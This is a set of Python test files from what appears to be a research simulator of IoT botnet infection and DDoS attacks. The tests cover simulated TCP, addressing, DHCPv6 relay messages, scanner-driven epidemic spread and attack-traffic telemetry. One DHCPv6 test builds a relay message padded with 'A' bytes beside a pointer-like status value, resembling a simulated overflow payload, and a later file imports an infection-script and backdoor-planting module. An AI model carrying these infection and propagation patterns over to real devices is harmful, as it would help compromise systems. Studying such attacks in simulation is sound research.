``NULL_OBSERVATORY`` and executes the seed tight loop, and the default
``Observatory()`` (real registry, null tracer, no profiler) still takes
that same loop.  Only ``Observatory.full()`` switches to the
instrumented loop, whose cost we report but do not bound.

Timings use min-of-N: the minimum over several repeats is the least
noisy estimator for "how fast can this loop go", which is what an
overhead ratio needs.
"""

import time

from repro.netsim.simulator import Simulator
from repro.obs import Observatory

N_EVENTS = 50_000
REPEATS = 7
MAX_OFF_OVERHEAD = 0.05  # 5%


def _noop():
    pass


def _run_scheduler(observatory=None) -> float:
    """Wall seconds to schedule+dispatch N_EVENTS no-op events."""
    sim = Simulator()
    if observatory is not None:
        sim.attach_observatory(observatory)
    for index in range(N_EVENTS):
        sim.schedule(index * 1e-6, _noop)
    start = time.perf_counter()
    sim.run()
    elapsed = time.perf_counter() - start
    assert sim.events_executed == N_EVENTS
    return elapsed


def _best(make_observatory) -> float:
    _run_scheduler(make_observatory() if make_observatory else None)  # warm-up
    return min(
        _run_scheduler(make_observatory() if make_observatory else None)
        for _ in range(REPEATS)
    )


def test_off_mode_overhead_under_5_percent():
    """Default Observatory (metrics-only) must ride the seed loop."""
    bare = _best(None)
    metrics_only = _best(Observatory)
    overhead = metrics_only / bare - 1.0
    print(
        f"\nbare: {N_EVENTS / bare:,.0f} ev/s | "
        f"metrics-only: {N_EVENTS / metrics_only:,.0f} ev/s | "
        f"overhead: {overhead:+.2%}"
    )
    assert overhead < MAX_OFF_OVERHEAD


def test_report_full_instrumentation_cost():
    """Informational: events/sec with tracer + profiler fully on."""
    bare = _best(None)
    full = _best(Observatory.full)
    print(
        f"\nbare: {N_EVENTS / bare:,.0f} ev/s | "
        f"full: {N_EVENTS / full:,.0f} ev/s | "
        f"slowdown: {full / bare:.2f}x"
    )
    # Sanity only — full instrumentation is allowed to cost, but a >20x
    # slowdown would mean the instrumented loop regressed badly.
    assert full / bare < 20.0
