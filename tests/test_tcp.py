"""Unit tests for the TCP implementation: handshake, reliability, close."""

import pytest

from repro.netsim.process import SimProcess
from repro.netsim.sockets import TcpServerSocket, TcpSocket
from repro.netsim.tcp import ConnectionRefused, ConnectionReset, MSS
from tests.conftest import drive


def echo_server(server_socket, chunks=1):
    """Accept one connection and echo ``chunks`` received chunks."""

    def run():
        sock = yield server_socket.accept()
        for _ in range(chunks):
            data = yield sock.recv()
            if data == b"":
                break
            sock.send(data)
        sock.close()

    return run


class TestHandshake:
    def test_connect_establishes(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            return sock.connection.state

        SimProcess(sim, echo_server(server)(), name="server")
        assert drive(sim, client()) == "ESTABLISHED"

    def test_connect_to_closed_port_refused(self, sim, two_hosts):
        node_a, node_b, star = two_hosts

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 81)
            yield sock.wait_connected()

        with pytest.raises(ConnectionRefused):
            drive(sim, client())

    def test_server_sees_peer_address(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)
        peers = []

        def server_proc():
            sock = yield server.accept()
            peers.append(sock.peer)
            sock.close()

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.close()

        SimProcess(sim, server_proc(), name="server")
        drive(sim, client())
        assert peers and peers[0][0] == star.address_of(node_a)

    def test_double_listen_rejected(self, sim, two_hosts):
        _, node_b, _ = two_hosts
        TcpServerSocket(node_b, 80)
        with pytest.raises(OSError):
            TcpServerSocket(node_b, 80)


class TestDataTransfer:
    def test_small_roundtrip(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)
        SimProcess(sim, echo_server(server)(), name="server")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send(b"hello tcp")
            reply = yield sock.recv()
            sock.close()
            return reply

        assert drive(sim, client()) == b"hello tcp"

    def test_large_transfer_in_order(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        blob = bytes(range(256)) * 200  # 51 200 B >> MSS, exercises windowing
        server = TcpServerSocket(node_b, 80)

        def server_proc():
            sock = yield server.accept()
            sock.send(blob)
            sock.close()

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            data = yield from sock.read_all()
            return data

        SimProcess(sim, server_proc(), name="server")
        assert drive(sim, client(), until=300.0) == blob

    def test_transfer_survives_loss(self, sim, star):
        """Retransmission recovers from 10% random loss on the path."""
        import random

        from repro.netsim.node import Node

        node_a = Node(sim, "lossy-a")
        node_b = Node(sim, "lossy-b")
        link_a = star.attach_host(node_a, 1e6, delay=0.001)
        star.attach_host(node_b, 1e6, delay=0.001)
        link_a.channel.loss_rate = 0.1
        link_a.channel._rng = random.Random(7)
        blob = b"M" * (MSS * 10)
        server = TcpServerSocket(node_b, 80)

        def server_proc():
            sock = yield server.accept()
            sock.send(blob)
            sock.close()

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            return (yield from sock.read_all())

        SimProcess(sim, server_proc(), name="server")
        received = drive(sim, client(), until=600.0)
        assert received == blob

    def test_retransmissions_counted_under_loss(self, sim, star):
        import random

        from repro.netsim.node import Node

        node_a = Node(sim, "a")
        node_b = Node(sim, "b")
        link_a = star.attach_host(node_a, 1e6, delay=0.001)
        star.attach_host(node_b, 1e6, delay=0.001)
        link_a.channel.loss_rate = 0.2
        link_a.channel._rng = random.Random(3)
        server = TcpServerSocket(node_b, 80)
        connections = []

        def server_proc():
            sock = yield server.accept()
            connections.append(sock.connection)
            yield from sock.read_all()

        def client():
            from repro.netsim.process import Timeout

            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send(b"x" * (MSS * 6))
            sock.close()
            # Give retransmission plenty of time to push everything through
            # (the peer half stays open; we only need the send side done).
            yield Timeout(sim, 120.0)
            return sock.connection.retransmissions

        SimProcess(sim, server_proc(), name="server")
        retransmissions = drive(sim, client(), until=600.0)
        assert retransmissions > 0


class TestTeardown:
    def test_eof_after_peer_close(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)

        def server_proc():
            sock = yield server.accept()
            sock.send(b"bye")
            sock.close()

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            first = yield sock.recv()
            second = yield sock.recv()
            return first, second

        SimProcess(sim, server_proc(), name="server")
        first, second = drive(sim, client())
        assert first == b"bye"
        assert second == b""

    def test_send_after_close_rejected(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)
        SimProcess(sim, echo_server(server)(), name="server")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.close()
            with pytest.raises(ConnectionReset):
                sock.send(b"too late")

        drive(sim, client())

    def test_full_close_removes_connection_state(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)

        def server_proc():
            sock = yield server.accept()
            yield from sock.read_all()
            sock.close()

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.send(b"data")
            sock.close()
            from repro.netsim.process import Timeout

            yield Timeout(sim, 20.0)
            return sock.connection.state

        SimProcess(sim, server_proc(), name="server")
        assert drive(sim, client(), until=120.0) == "CLOSED"
        assert not node_a.tcp.connections

    def test_abort_resets_peer(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        server = TcpServerSocket(node_b, 80)
        outcomes = []

        def server_proc():
            sock = yield server.accept()
            try:
                while True:
                    data = yield sock.recv()
                    if data == b"":
                        outcomes.append("eof")
                        return
            except ConnectionError:
                outcomes.append("reset")

        def client():
            sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
            yield sock.wait_connected()
            sock.abort()
            from repro.netsim.process import Timeout

            yield Timeout(sim, 5.0)

        SimProcess(sim, server_proc(), name="server")
        drive(sim, client())
        assert outcomes == ["reset"]

    def test_listener_close_fails_pending_accepts(self, sim, two_hosts):
        _, node_b, _ = two_hosts
        server = TcpServerSocket(node_b, 80)

        def server_proc():
            with pytest.raises(ConnectionReset):
                yield server.accept()

        process = SimProcess(sim, server_proc(), name="server")
        sim.schedule(1.0, server.close)
        sim.run(until=10.0)
        assert process.done and process.error is None
