"""Property-based tests for TCP: reliable in-order delivery holds for
arbitrary payloads and random loss patterns."""

import random

from hypothesis import HealthCheck, given, settings, strategies as st

from repro.netsim.node import Node
from repro.netsim.process import SimProcess
from repro.netsim.simulator import Simulator
from repro.netsim.sockets import TcpServerSocket, TcpSocket
from repro.netsim.topology import StarInternet


def transfer(blob: bytes, loss_rate: float, loss_seed: int) -> bytes:
    """Send ``blob`` a->b over a (possibly lossy) star; return what b got."""
    sim = Simulator()
    star = StarInternet(sim)
    node_a = Node(sim, "a")
    node_b = Node(sim, "b")
    link_a = star.attach_host(node_a, 5e6, delay=0.002)
    star.attach_host(node_b, 5e6, delay=0.002)
    if loss_rate > 0:
        link_a.channel.loss_rate = loss_rate
        link_a.channel._rng = random.Random(loss_seed)
    server = TcpServerSocket(node_b, 80)
    received = []

    def server_proc():
        sock = yield server.accept()
        data = yield from sock.read_all()
        received.append(data)

    def client_proc():
        sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
        yield sock.wait_connected()
        if blob:
            sock.send(blob)
        sock.close()

    SimProcess(sim, server_proc(), name="server")
    SimProcess(sim, client_proc(), name="client")
    sim.run(until=900.0)
    return received[0] if received else b""


@settings(max_examples=15, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(min_size=0, max_size=20_000))
def test_lossless_delivery_property(blob):
    assert transfer(blob, 0.0, 0) == blob


@settings(max_examples=10, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(
    st.binary(min_size=1, max_size=8_000),
    st.floats(min_value=0.01, max_value=0.15),
    st.integers(min_value=0, max_value=1_000),
)
def test_lossy_delivery_property(blob, loss_rate, loss_seed):
    """Go-back-N must reconstruct the exact byte stream despite loss."""
    assert transfer(blob, loss_rate, loss_seed) == blob


@settings(max_examples=10, deadline=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.binary(min_size=1, max_size=3_000), min_size=1, max_size=6))
def test_chunked_sends_concatenate_in_order(chunks):
    """Multiple send() calls arrive as one in-order stream."""
    sim = Simulator()
    star = StarInternet(sim)
    node_a = Node(sim, "a")
    node_b = Node(sim, "b")
    star.attach_host(node_a, 5e6, delay=0.002)
    star.attach_host(node_b, 5e6, delay=0.002)
    server = TcpServerSocket(node_b, 80)
    received = []

    def server_proc():
        sock = yield server.accept()
        received.append((yield from sock.read_all()))

    def client_proc():
        from repro.netsim.process import Timeout

        sock = TcpSocket.connect(node_a, star.address_of(node_b), 80)
        yield sock.wait_connected()
        for chunk in chunks:
            sock.send(chunk)
            yield Timeout(sim, 0.01)
        sock.close()

    SimProcess(sim, server_proc(), name="server")
    SimProcess(sim, client_proc(), name="client")
    sim.run(until=300.0)
    assert received and received[0] == b"".join(chunks)
