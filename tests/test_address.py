"""Unit + property tests for MAC/IPv4/IPv6 addresses."""

import pytest
from hypothesis import given, strategies as st

from repro.netsim.address import (
    ALL_DHCP_RELAY_AGENTS_AND_SERVERS,
    AddressError,
    Ipv4Address,
    Ipv4AddressAllocator,
    Ipv6Address,
    Ipv6AddressAllocator,
    MacAddress,
)


class TestIpv4:
    def test_parse_and_format(self):
        assert str(Ipv4Address.parse("10.0.0.1")) == "10.0.0.1"

    def test_parse_extremes(self):
        assert Ipv4Address.parse("0.0.0.0").value == 0
        assert Ipv4Address.parse("255.255.255.255").value == 0xFFFFFFFF

    @pytest.mark.parametrize(
        "text",
        ["1.2.3", "1.2.3.4.5", "256.1.1.1", "a.b.c.d", "01.2.3.4", "", "1..2.3"],
    )
    def test_malformed_rejected(self, text):
        with pytest.raises(AddressError):
            Ipv4Address.parse(text)

    def test_multicast_detection(self):
        assert Ipv4Address.parse("224.0.0.1").is_multicast
        assert not Ipv4Address.parse("10.1.2.3").is_multicast

    def test_broadcast_detection(self):
        assert Ipv4Address.parse("255.255.255.255").is_broadcast

    def test_equality_and_hash(self):
        one = Ipv4Address.parse("10.0.0.1")
        two = Ipv4Address.parse("10.0.0.1")
        assert one == two
        assert hash(one) == hash(two)
        assert one != Ipv4Address.parse("10.0.0.2")

    def test_not_equal_to_same_valued_ipv6(self):
        assert Ipv4Address(5) != Ipv6Address(5)

    def test_out_of_range_rejected(self):
        with pytest.raises(AddressError):
            Ipv4Address(1 << 32)
        with pytest.raises(AddressError):
            Ipv4Address(-1)

    @given(st.integers(min_value=0, max_value=(1 << 32) - 1))
    def test_roundtrip_property(self, value):
        address = Ipv4Address(value)
        assert Ipv4Address.parse(str(address)) == address


class TestIpv6:
    def test_parse_full_form(self):
        address = Ipv6Address.parse("2001:0db8:0000:0000:0000:0000:0000:0001")
        assert str(address) == "2001:db8::1"

    def test_parse_compressed(self):
        assert Ipv6Address.parse("::1").value == 1
        assert Ipv6Address.parse("::").value == 0

    def test_compression_picks_longest_zero_run(self):
        address = Ipv6Address.parse("1:0:0:2:0:0:0:3")
        assert str(address) == "1:0:0:2::3"

    def test_single_zero_group_not_compressed(self):
        address = Ipv6Address.parse("1:0:2:3:4:5:6:7")
        assert str(address) == "1:0:2:3:4:5:6:7"

    @pytest.mark.parametrize(
        "text",
        ["", ":::", "1::2::3", "1:2:3:4:5:6:7", "1:2:3:4:5:6:7:8:9", "12345::", "g::1"],
    )
    def test_malformed_rejected(self, text):
        with pytest.raises(AddressError):
            Ipv6Address.parse(text)

    def test_multicast_detection(self):
        assert ALL_DHCP_RELAY_AGENTS_AND_SERVERS.is_multicast
        assert Ipv6Address.parse("ff02::1").is_multicast
        assert not Ipv6Address.parse("2001:db8::1").is_multicast

    def test_link_local_detection(self):
        assert Ipv6Address.parse("fe80::1").is_link_local
        assert not Ipv6Address.parse("2001:db8::1").is_link_local

    def test_dhcp_group_value(self):
        assert str(ALL_DHCP_RELAY_AGENTS_AND_SERVERS) == "ff02::1:2"

    def test_groups(self):
        address = Ipv6Address.parse("1:2:3:4:5:6:7:8")
        assert address.groups == (1, 2, 3, 4, 5, 6, 7, 8)

    @given(st.integers(min_value=0, max_value=(1 << 128) - 1))
    def test_roundtrip_property(self, value):
        address = Ipv6Address(value)
        assert Ipv6Address.parse(str(address)) == address


class TestMac:
    def test_parse_and_format(self):
        assert str(MacAddress.parse("02:00:00:00:00:2a")) == "02:00:00:00:00:2a"

    @pytest.mark.parametrize("text", ["", "02:00", "zz:00:00:00:00:00", "020000000000"])
    def test_malformed_rejected(self, text):
        with pytest.raises(AddressError):
            MacAddress.parse(text)

    def test_allocation_is_unique(self):
        macs = {MacAddress.allocate() for _ in range(100)}
        assert len(macs) == 100

    @given(st.integers(min_value=0, max_value=(1 << 48) - 1))
    def test_roundtrip_property(self, value):
        address = MacAddress(value)
        assert MacAddress.parse(str(address)) == address


class TestAllocators:
    def test_ipv6_allocator_sequential_and_unique(self):
        pool = Ipv6AddressAllocator("2001:db8:0:1")
        first = pool.allocate()
        second = pool.allocate()
        assert first != second
        assert str(first) == "2001:db8:0:1::1"
        assert str(second) == "2001:db8:0:1::2"

    def test_ipv4_allocator_stays_in_prefix(self):
        pool = Ipv4AddressAllocator("10.7.0.0")
        for _ in range(10):
            address = pool.allocate()
            assert str(address).startswith("10.7.")

    def test_ipv4_allocator_exhaustion(self):
        pool = Ipv4AddressAllocator("10.0.0.0")
        pool._next_host = 0xFFFE
        with pytest.raises(AddressError):
            pool.allocate()
