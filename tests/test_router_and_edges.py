"""Edge-case tests across netsim: router behaviour, sink bin widths,
ephemeral exhaustion resilience, misc error paths."""

import pytest

from repro.netsim.headers import PROTO_UDP, UdpHeader
from repro.netsim.node import Node
from repro.netsim.packet import Packet
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet


class TestRouterBehaviour:
    def test_router_drops_traffic_to_unknown_destination(self, sim, two_hosts):
        node_a, _node_b, star = two_hosts
        from repro.netsim.address import Ipv6Address

        packet = Packet(payload_size=10)
        packet.add_header(UdpHeader(1, 2))
        node_a.ip.send(packet, Ipv6Address.parse("2001:db8:dead::1"), PROTO_UDP)
        before = star.router.ip.dropped_no_route
        sim.run()
        assert star.router.ip.dropped_no_route >= before

    def test_router_never_reflects_to_ingress(self, sim, star):
        """A packet addressed to its own sender's address must not loop."""
        node = Node(sim, "self-talker")
        link = star.attach_host(node, 1e6)
        inbox = []
        node.udp.bind(9, lambda p, u, i: inbox.append(p))
        # Loopback happens at the host, never transits the router.
        node.udp.send_datagram(b"me", link.ipv6, 9, src_port=1)
        sim.run()
        assert len(inbox) == 1
        assert star.router.ip.forwarded == 0

    def test_many_hosts_star_scales(self, sim, star):
        receiver = Node(sim, "receiver")
        star.attach_host(receiver, 50e6)
        sink = PacketSink(receiver)
        sink.start()
        for index in range(40):
            sender = Node(sim, f"s{index}")
            star.attach_host(sender, 1e6)
            sender.udp.send_datagram(
                None, star.address_of(receiver), 7, src_port=1, payload_size=100
            )
        sim.run()
        assert sink.total_packets == 40
        assert sink.distinct_sources() == 40


class TestSinkBinWidths:
    def test_custom_bin_width(self, sim, two_hosts):
        node_a, node_b, star = two_hosts
        sink = PacketSink(node_b, bin_width=0.5)
        sink.start()
        for delay in (0.1, 0.4, 0.7):
            sim.schedule(delay, node_a.udp.send_datagram,
                         None, star.address_of(node_b), 7, 9, 100)
        sim.run()
        assert sink.bytes_per_bin[0] == 2 * 148
        assert sink.bytes_per_bin[1] == 148
        series = sink.rate_series_kbps(0.0, 1.0)
        assert len(series) == 2


class TestUdpEdgeCases:
    def test_many_ephemeral_allocations_stay_unique(self, sim, two_hosts):
        node_a, _b, _star = two_hosts
        seen = set()
        for _ in range(1000):
            port = node_a.udp.allocate_ephemeral_port()
            seen.add(port)
        assert len(seen) == 1000

    def test_rebinding_after_unbind_in_loop(self, sim, two_hosts):
        node_a, _b, _star = two_hosts
        for _ in range(50):
            port = node_a.udp.bind(7000, lambda p, u, i: None)
            node_a.udp.unbind(port)

    def test_handler_exception_does_not_break_stack(self, sim, two_hosts):
        """A crashing handler only affects that datagram's event."""
        node_a, node_b, star = two_hosts

        def bad_handler(packet, udp_header, ip_header):
            raise RuntimeError("handler bug")

        node_b.udp.bind(9, bad_handler)
        node_a.udp.send_datagram(b"x", star.address_of(node_b), 9, src_port=1)
        with pytest.raises(RuntimeError):
            sim.run()
        # The stack still works for later traffic.
        inbox = []
        node_b.udp.bind(10, lambda p, u, i: inbox.append(p))
        node_a.udp.send_datagram(b"y", star.address_of(node_b), 10, src_port=1)
        sim.run()
        assert len(inbox) == 1


class TestContainerEdgeCases:
    def test_container_log_timestamps(self, sim):
        from repro.container.image import Image
        from repro.container.runtime import ContainerRuntime

        runtime = ContainerRuntime(sim)
        runtime.add_image(Image("img"))
        container = runtime.create("img")
        container.log("first")
        sim.schedule(5.0, container.log, "later")
        sim.run()
        assert "0.000" in container.logs[0]
        assert "5.000" in container.logs[1]

    def test_image_reference_defaults_latest(self, sim):
        from repro.container.image import Image
        from repro.container.runtime import ContainerRuntime

        runtime = ContainerRuntime(sim)
        runtime.add_image(Image("named", tag="v2"))
        assert runtime.get_image("named:v2").tag == "v2"
        with pytest.raises(Exception):
            runtime.get_image("named")  # defaults to :latest, absent


class TestCaptureExport:
    def test_csv_export(self, sim, two_hosts):
        from repro.netsim.tracing import PacketCapture

        node_a, node_b, star = two_hosts
        capture = PacketCapture(node_b)
        PacketSink(node_b).start()
        node_a.udp.send_datagram(
            None, star.address_of(node_b), 7777, src_port=9, payload_size=64
        )
        sim.run()
        csv = capture.to_csv()
        lines = csv.strip().splitlines()
        assert lines[0].startswith("time,src,dst")
        assert len(lines) == 2
        assert ",7777," in lines[1]
