"""Tests for run-time telemetry sampling."""

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.core.telemetry import TelemetrySampler, TelemetrySeries


@pytest.fixture(scope="module")
def sampled_run():
    config = SimulationConfig(
        n_devs=5, seed=6, attack_duration=20.0,
        recruit_timeout=30.0, sim_duration=150.0,
    )
    ddosim = DDoSim(config)
    telemetry = TelemetrySampler(ddosim, interval=2.0)
    result = ddosim.run()
    return ddosim, telemetry, result


class TestTelemetrySampler:
    def test_samples_on_cadence(self, sampled_run):
        _ddosim, telemetry, result = sampled_run
        times = telemetry.series.times
        assert times[0] == 0.0
        deltas = [b - a for a, b in zip(times, times[1:])]
        assert all(delta == pytest.approx(2.0) for delta in deltas)
        assert times[-1] <= result.sim_end_time

    def test_infection_curve_rises_to_full(self, sampled_run):
        _ddosim, telemetry, _result = sampled_run
        curve = telemetry.series.infection_curve()
        assert curve[0] == 0
        assert curve[-1] == 5
        assert all(b >= a for a, b in zip(curve, curve[1:]))

    def test_received_rate_spikes_during_attack(self, sampled_run):
        _ddosim, telemetry, result = sampled_run
        attack_start = result.attack.issued_at
        during = [
            sample.received_rate_kbps
            for sample in telemetry.series.samples
            if attack_start + 2.0 <= sample.time <= attack_start + 18.0
        ]
        before = [
            sample.received_rate_kbps
            for sample in telemetry.series.samples
            if sample.time < attack_start - 2.0
        ]
        assert during and max(during) > 100.0
        assert max(before, default=0.0) < min(during)

    def test_memory_tracked(self, sampled_run):
        _ddosim, telemetry, _result = sampled_run
        memory = telemetry.series.column("container_memory_bytes")
        assert all(value > 0 for value in memory)

    def test_csv_export(self, sampled_run):
        _ddosim, telemetry, _result = sampled_run
        csv = telemetry.series.to_csv()
        lines = csv.strip().splitlines()
        assert lines[0].startswith("time,bots_connected")
        assert len(lines) == len(telemetry.series) + 1

    def test_peak_rate_helper(self, sampled_run):
        _ddosim, telemetry, result = sampled_run
        assert telemetry.series.peak_received_rate_kbps() == pytest.approx(
            max(telemetry.series.column("received_rate_kbps"))
        )

    def test_invalid_interval_rejected(self):
        config = SimulationConfig(n_devs=2)
        ddosim = DDoSim(config)
        with pytest.raises(ValueError):
            TelemetrySampler(ddosim, interval=0.0)

    def test_empty_series_helpers(self):
        series = TelemetrySeries(interval=1.0)
        assert len(series) == 0
        assert series.peak_received_rate_kbps() == 0.0
