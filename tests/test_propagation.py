"""Integration tests for the epidemic use case: scanner-driven spread."""

import pytest

from repro.analysis.epidemic import fit_si_model, run_propagation_experiment
from repro.botnet.scanner import scan_config_json
import json


class TestScanConfig:
    def test_config_json_roundtrip(self):
        from repro.binaries.dnsmasq import make_dnsmasq_binary

        blob = scan_config_json(
            "2001:db8:0:1::", 3, 40, make_dnsmasq_binary(), "2001:db8::1",
            probes_per_second=1.5,
        )
        config = json.loads(blob)
        assert config["pool_prefix"] == "2001:db8:0:1::"
        assert config["first"] == 3 and config["last"] == 40
        assert config["probes_per_second"] == 1.5
        assert config["target_binary"]["name"] == "dnsmasq"
        assert config["urls"]["host"] == "2001:db8::1"


class TestPropagationExperiment:
    @pytest.fixture(scope="class")
    def propagation(self):
        return run_propagation_experiment(
            n_devs=15, seed=4, duration=250.0, probes_per_second=3.0
        )

    def test_full_spread(self, propagation):
        assert propagation.final_infected == 15

    def test_curve_is_monotone_from_one(self, propagation):
        assert propagation.infected[0] == 1  # patient zero
        assert all(
            b >= a for a, b in zip(propagation.infected, propagation.infected[1:])
        )
        assert propagation.infected[-1] == 15

    def test_grid_covers_duration(self, propagation):
        assert len(propagation.times) == int(propagation.duration) + 1
        assert propagation.times[0] == 0.0

    def test_si_fit_quality(self, propagation):
        times, infected = propagation.as_arrays()
        fit = fit_si_model(times, infected, population=15, i0=1)
        assert fit.beta > 0
        assert fit.r_squared > 0.8

    def test_sparser_pool_spreads_slower(self):
        fast = run_propagation_experiment(
            n_devs=10, seed=6, duration=150.0, probes_per_second=3.0,
            pool_factor=2.0,
        )
        slow = run_propagation_experiment(
            n_devs=10, seed=6, duration=150.0, probes_per_second=3.0,
            pool_factor=12.0,
        )
        # Compare time-to-half-infected (index where count >= 5).
        def half_time(result):
            for t, count in zip(result.times, result.infected):
                if count >= 5:
                    return t
            return float("inf")

        assert half_time(slow) > half_time(fast)
