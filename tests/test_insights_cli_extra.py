"""Additional coverage: CLI sweep commands on tiny grids, epidemic CLI."""

import json

import pytest

from repro.cli import main


class TestCliSweeps:
    def test_table1_with_custom_grid(self, capsys, tmp_path):
        out = tmp_path / "t1.json"
        code = main(["table1", "--grid", "2", "4", "--json", str(out),
                     "--cache-dir", str(tmp_path / "cache")])
        assert code == 0
        rows = json.loads(out.read_text())
        assert [row["n_devs"] for row in rows] == [2, 4]
        assert all("attack_time" in row for row in rows)

    def test_figure4_with_single_point(self, capsys):
        code = main(["figure4", "--grid", "2", "--no-cache"])
        assert code == 0
        output = capsys.readouterr().out
        assert "hardware_kbps" in output

    def test_epidemic_command(self, capsys, tmp_path):
        out = tmp_path / "curve.csv"
        code = main([
            "epidemic", "--devs", "8", "--duration", "120",
            "--scan-rate", "4", "--csv", str(out),
        ])
        assert code == 0
        output = capsys.readouterr().out
        assert "final infected: 8/8" in output
        assert "SI fit" in output
        lines = out.read_text().strip().splitlines()
        assert lines[0] == "t,infected"
        assert len(lines) == 122  # header + 121 samples
