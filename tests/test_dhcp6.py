"""Unit + property tests for the DHCPv6 wire format."""

import pytest
from hypothesis import given, strategies as st

from repro.netsim.address import Ipv6Address
from repro.services.dhcp6 import (
    Dhcp6DecodeError,
    Dhcp6Message,
    Dhcp6Option,
    MSG_ADVERTISE,
    MSG_INFORMATION_REQUEST,
    MSG_RELAY_FORW,
    MSG_REPLY,
    MSG_SOLICIT,
    OPTION_RELAY_MSG,
    OPTION_SERVERID,
    OPTION_STATUS_CODE,
    make_relay_forw,
)


class TestClientServerMessages:
    def test_solicit_roundtrip(self):
        message = Dhcp6Message(
            MSG_SOLICIT,
            transaction_id=0xABCDEF,
            options=[Dhcp6Option(OPTION_SERVERID, b"server-1")],
        )
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.msg_type == MSG_SOLICIT
        assert decoded.transaction_id == 0xABCDEF
        assert decoded.option(OPTION_SERVERID).data == b"server-1"

    def test_information_request_roundtrip(self):
        message = Dhcp6Message(MSG_INFORMATION_REQUEST, transaction_id=0x51)
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.msg_type == MSG_INFORMATION_REQUEST
        assert not decoded.is_relay

    def test_reply_with_status(self):
        message = Dhcp6Message(
            MSG_REPLY,
            transaction_id=1,
            options=[Dhcp6Option(OPTION_STATUS_CODE, b"ptr=0x0000000000401234")],
        )
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.option(OPTION_STATUS_CODE).data.startswith(b"ptr=")

    def test_missing_option_is_none(self):
        message = Dhcp6Message(MSG_ADVERTISE, transaction_id=2)
        assert message.option(OPTION_RELAY_MSG) is None


class TestRelayMessages:
    def test_relay_forw_roundtrip(self):
        link = Ipv6Address.parse("2001:db8::10")
        peer = Ipv6Address.parse("fe80::1")
        message = make_relay_forw(b"\x41" * 150, link=link, peer=peer, hop_count=3)
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.msg_type == MSG_RELAY_FORW
        assert decoded.is_relay
        assert decoded.hop_count == 3
        assert decoded.link_address == link
        assert decoded.peer_address == peer
        assert decoded.option(OPTION_RELAY_MSG).data == b"\x41" * 150

    def test_relay_carries_arbitrary_binary_payload(self):
        payload = bytes(range(256))
        message = make_relay_forw(payload, Ipv6Address(1), Ipv6Address(2))
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.option(OPTION_RELAY_MSG).data == payload

    @pytest.mark.parametrize(
        "blob",
        [
            b"",
            b"\x0c\x00short",                 # relay header truncated
            b"\x01\x00",                       # non-relay too short
        ],
    )
    def test_malformed_rejected(self, blob):
        with pytest.raises(Dhcp6DecodeError):
            Dhcp6Message.decode(blob)

    def test_truncated_option_rejected(self):
        message = make_relay_forw(b"ABCDEF", Ipv6Address(1), Ipv6Address(2))
        with pytest.raises(Dhcp6DecodeError):
            Dhcp6Message.decode(message.encode()[:-3])

    @given(st.binary(max_size=400), st.integers(min_value=0, max_value=255))
    def test_relay_payload_roundtrip_property(self, payload, hops):
        message = make_relay_forw(
            payload, Ipv6Address(0x2001 << 112), Ipv6Address(5), hop_count=hops
        )
        decoded = Dhcp6Message.decode(message.encode())
        assert decoded.option(OPTION_RELAY_MSG).data == payload
        assert decoded.hop_count == hops
