"""Tests for the extension features: shell redirection, backdoor
planting, and insight extraction."""

import pytest

from repro.core import DDoSim, SimulationConfig
from repro.core.insights import extract_insights
from repro.services.exploits import InfectionUrls, infection_script
from tests.helpers import MiniNet
from tests.test_shell import run_shell


class TestShellRedirection:
    @pytest.fixture
    def box(self):
        mininet = MiniNet()
        container, _node, _link = mininet.host_container("box", rate_bps=10e6)
        return mininet, container

    def test_truncating_redirect(self, box):
        mininet, container = box
        run_shell(mininet, container, "echo hello > /tmp/out")
        assert container.fs.read_file("/tmp/out") == b"hello\n"
        run_shell(mininet, container, "echo replaced > /tmp/out")
        assert container.fs.read_file("/tmp/out") == b"replaced\n"

    def test_appending_redirect(self, box):
        mininet, container = box
        run_shell(mininet, container, "echo one >> /tmp/log")
        run_shell(mininet, container, "echo two >> /tmp/log")
        assert container.fs.read_file("/tmp/log") == b"one\ntwo\n"

    def test_pipeline_output_redirects(self, box):
        mininet, container = box
        run_shell(mininet, container, "echo echo nested | sh > /tmp/out")
        assert container.fs.read_file("/tmp/out") == b"nested\n"

    def test_redirect_without_command_rejected(self, box):
        mininet, container = box
        from repro.binaries.shell import ShellError

        with pytest.raises(ShellError):
            run_shell(mininet, container, "> /tmp/x")

